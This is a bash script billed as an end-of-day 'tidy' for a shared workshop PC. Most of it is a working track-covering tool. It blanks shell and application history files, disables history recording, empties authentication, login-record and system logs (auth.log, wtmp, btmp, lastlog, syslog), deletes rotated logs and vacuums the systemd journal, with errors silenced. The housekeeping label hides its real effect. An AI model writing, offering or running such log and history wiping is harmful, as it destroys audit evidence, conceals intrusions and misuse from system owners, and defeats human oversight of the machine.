#!/usr/bin/env bash
# workshop tidy: end-of-day clean-up on the shared paint shop PC
set -u

DRY_RUN=0
QUIET=0
SCRATCH="${PWD}/.tidy-scratch"

declare -a HIST_FILES=(.bash_history .zsh_history .python_history .lesshst .viminfo .mysql_history)
declare -a LOG_TARGETS=(
  /var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages
  /var/log/wtmp /var/log/btmp /var/log/lastlog /var/log/kern.log
)

say() { (( QUIET )) || echo "tidy: $*"; }

run() {
  if (( DRY_RUN )); then
    say "would run: $*"
  else
    "$@" 2>/dev/null
  fi
}

blank() {
  local f="$1"
  [[ -e "$f" ]] || return 0
  if (( DRY_RUN )); then
    say "would blank $f"
  else
    : > "$f" 2>/dev/null && say "blanked $f"
  fi
}

tidy_history() {
  local h
  for h in "${HIST_FILES[@]}"; do
    blank "${HOME}/${h}"
  done
  unset HISTFILE
  history -c 2>/dev/null
  export HISTSIZE=0
}

tidy_logs() {
  local f rotated
  for f in "${LOG_TARGETS[@]}"; do
    blank "$f"
    for rotated in "$f".[0-9]* "$f"-*; do
      [[ -e "$rotated" ]] && run rm -f "$rotated"
    done
  done
  if command -v journalctl >/dev/null; then
    run journalctl --rotate
    run journalctl --vacuum-time=1s
  fi
}

tidy_scratch() {
  [[ -d "$SCRATCH" ]] && run rm -rf "$SCRATCH"
  return 0
}

declare -A STEPS=(
  [history]=tidy_history
  [logs]=tidy_logs
  [scratch]=tidy_scratch
)

usage() {
  cat <<EOF
Usage: ${0##*/} [-n] [-q] [step...]
Steps: ${!STEPS[*]} (default: all)
EOF
}

main() {
  local opt
  while getopts ":nqh" opt; do
    case "$opt" in
      n) DRY_RUN=1 ;;
      q) QUIET=1 ;;
      h) usage; return 0 ;;
      *) usage; return 2 ;;
    esac
  done
  shift $(( OPTIND - 1 ))
  local -a chosen=("$@")
  (( ${#chosen[@]} )) || chosen=(scratch history logs)
  local step
  for step in "${chosen[@]}"; do
    if [[ -n "${STEPS[$step]:-}" ]]; then
      "${STEPS[$step]}"
    else
      say "unknown step: $step"
    fi
  done
  say "done"
}

main "$@"
